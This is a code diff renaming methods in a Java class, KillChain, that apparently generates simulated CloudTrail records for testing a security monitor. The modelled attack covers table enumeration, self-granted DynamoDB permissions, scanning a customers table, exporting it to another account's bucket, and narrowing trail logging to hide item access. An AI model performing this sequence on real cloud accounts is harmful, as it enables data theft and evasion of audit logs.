@@ -43,7 +43,7 @@ final class KillChain {
   private static final Table LOOT = table("customers");
 
   private final RecordWriter writer = new RecordWriter(new SplittableRandom(7));
-  private final List<String> told = new ArrayList<>();
+  private final List<String> pending = new ArrayList<>();
   private Instant now = Instant.now().minus(Duration.ofDays(3));
 
   /** The monitor's policy as YAML. */
@@ -62,7 +62,7 @@ final class KillChain {
   }
 
   /** Lists the tables and describes each. */
-  List<String> looksAround() {
+  List<String> enumerateTables() {
     call(
         Call.withoutResources(
             THIEF, Api.inspect("ListTables"), REGION, new JsonText().object().endObject()));
@@ -72,11 +72,11 @@ final class KillChain {
         call(Call.onItems(THIEF, Api.inspect(look), table, naming(table).endObject()));
       }
     }
-    return done();
+    return finishStep();
   }
 
   /** Grants itself all actions of DynamoDB. */
-  List<String> widensAccess() {
+  List<String> widenAccess() {
     JsonText parameters = new JsonText().object().field("userName", THIEF.name());
     parameters.field("policyName", "all-tables");
     parameters
@@ -88,17 +88,17 @@ final class KillChain {
     call(
         Call.withoutResources(
             THIEF, Api.management("iam", "PutUserPolicy", false), REGION, parameters));
-    return done();
+    return finishStep();
   }
 
   /** Looks into two tables by PartiQL. */
-  List<String> looksInto() {
+  List<String> inspectTables() {
     for (Table table : List.of(LOOT, table("table-1"))) {
       JsonText parameters = new JsonText().object();
       parameters.field("statement", "SELECT * FROM \"" + table.name() + '"').field("limit", 5);
       call(Call.onItems(THIEF, Api.write("ExecuteStatement"), table, parameters.endObject()));
     }
-    return done();
+    return finishStep();
   }
 
   /**
@@ -106,7 +106,7 @@ final class KillChain {
    *
    * @param rounds number of pages of each segment
    */
-  List<String> scans(int rounds) {
+  List<String> scan(int rounds) {
     for (int round = 0; round < rounds; round++) {
       for (int segment = 0; segment < SEGMENTS; segment++) {
         JsonText parameters = naming(LOOT).field("segment", segment);
@@ -114,21 +114,21 @@ final class KillChain {
         call(Call.onItems(THIEF, Api.read("Scan"), LOOT, parameters));
       }
     }
-    return done();
+    return finishStep();
   }
 
   /** Exports the table to a bucket of another account. */
-  List<String> exports() {
+  List<String> exportTable() {
     JsonText parameters = new JsonText().object().field("tableArn", LOOT.arn());
     parameters.field("s3Bucket", "amzn-s3-demo-destination-bucket");
     parameters.field("s3BucketOwner", "444455556666").field("exportFormat", "DYNAMODB_JSON");
     parameters.field("exportType", "FULL_EXPORT").endObject();
     call(Call.onItems(THIEF, Api.change("ExportTableToPointInTime"), LOOT, parameters));
-    return done();
+    return finishStep();
   }
 
   /** Changes the trail's selectors so that calls on items are no longer recorded. */
-  List<String> narrowsLogs() {
+  List<String> narrowLogs() {
     JsonText parameters = new JsonText().object();
     parameters.field(
         "trailName", "arn:aws:cloudtrail:" + REGION + ':' + ACCOUNT + ":trail/company");
@@ -139,18 +139,18 @@ final class KillChain {
     call(
         Call.withoutResources(
             THIEF, Api.management("cloudtrail", "PutEventSelectors", false), REGION, parameters));
-    return done();
+    return finishStep();
   }
 
   private void call(Call call) {
     now = now.plusSeconds(1);
-    told.add(new String(writer.write(call, now.toEpochMilli()).json(), StandardCharsets.UTF_8));
+    pending.add(new String(writer.write(call, now.toEpochMilli()).json(), StandardCharsets.UTF_8));
   }
 
-  private List<String> done() {
+  private List<String> finishStep() {
     now = now.plus(Duration.ofMinutes(5));
-    List<String> trailRecords = List.copyOf(told);
-    told.clear();
+    List<String> trailRecords = List.copyOf(pending);
+    pending.clear();
     return trailRecords;
   }
 
